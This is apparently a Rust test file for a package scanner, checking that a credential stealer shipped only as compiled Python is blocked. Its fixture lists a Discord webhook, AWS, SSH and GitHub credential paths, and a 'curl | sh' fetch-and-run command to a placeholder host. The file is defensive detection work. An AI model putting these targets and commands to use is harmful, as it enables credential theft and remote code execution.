#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Compiled Python (`.pyc`) read as bytes, end to end. The files are built here from our own strings rather
//! than kept in `corpus/` (corpus samples are plain text): a stealer shipped only as `__init__.pyc` blocks,
//! and a module whose `__pycache__` sits beside its source stays allow.

mod hostile_support;

use hostile_support::*;

/// A `.pyc` of Python 3.8–3.10 layout: a 16-byte header, then a module code object whose constants are
/// `consts` and whose names are `names` (what the scanner reads; the bytecode itself is a stub).
fn pyc(consts: &[&str], names: &[&str]) -> Vec<u8> {
    let mut out = vec![0x55, 0x0d, b'\r', b'\n'];
    out.resize(16, 0);
    out.push(b'c' | 0x80);
    for _ in 0..6 {
        out.extend_from_slice(&0i32.to_le_bytes()); // argument counts, locals, stack size, flags
    }
    let short = |out: &mut Vec<u8>, text: &str| {
        out.push(b'z');
        out.push(u8::try_from(text.len()).unwrap());
        out.extend_from_slice(text.as_bytes());
    };
    let tuple = |out: &mut Vec<u8>, items: &[&str]| {
        out.push(b')');
        out.push(u8::try_from(items.len()).unwrap());
        for item in items {
            short(out, item);
        }
    };
    out.push(b's'); // bytecode
    out.extend_from_slice(&2i32.to_le_bytes());
    out.extend_from_slice(&[0x64, 0x00]);
    tuple(&mut out, consts);
    tuple(&mut out, names);
    for _ in 0..3 {
        tuple(&mut out, &[]); // varnames, freevars, cellvars
    }
    short(&mut out, "<string>");
    short(&mut out, "<module>");
    out.extend_from_slice(&1i32.to_le_bytes()); // first line
    out.push(b's'); // line table
    out.extend_from_slice(&0i32.to_le_bytes());
    out
}

const PYPROJECT: &str = "[project]\nname = \"colour-sync\"\nversion = \"0.2.0\"\n";

#[test]
fn a_stealer_shipped_only_as_compiled_python_blocks() {
    let dir = package();
    write(dir.path(), "pyproject.toml", PYPROJECT);
    write(
        dir.path(),
        "colour_sync/__init__.pyc",
        pyc(
            &[
                "https://discord.com/api/webhooks/1234567890/abcdefEXAMPLE",
                "~/.aws/credentials",
                "~/.ssh/id_rsa",
                "~/.config/gh/hosts.yml",
                "curl -s https://get.example.invalid/s.sh | sh",
            ],
            &["os", "requests", "open", "expanduser", "post", "system"],
        ),
    );
    let scan = scan(dir.path());
    assert_eq!(scan.verdict(), "block", "{:?}", scan.findings());
    assert!(scan.has_finding("CRED001", "colour_sync/__init__.pyc"));
    // Compiled code with no source beside it is its own finding.
    assert!(scan.has_finding("BIN002", "colour_sync/__init__.pyc"));
}

#[test]
fn a_pycache_beside_its_source_stays_allow() {
    let dir = package();
    write(dir.path(), "pyproject.toml", PYPROJECT);
    write(
        dir.path(),
        "colour_sync/__init__.py",
        "import json\nimport os\n\nCOLOURS = {\"red\": \"#ff0000\"}\nDOCS = \"https://docs.example.invalid/colours\"\n",
    );
    write(
        dir.path(),
        "colour_sync/__pycache__/__init__.cpython-310.pyc",
        pyc(
            &["red", "#ff0000", "https://docs.example.invalid/colours"],
            &["json", "os", "COLOURS", "DOCS"],
        ),
    );
    let scan = scan(dir.path());
    assert_eq!(scan.verdict(), "allow", "{:?}", scan.findings());
}
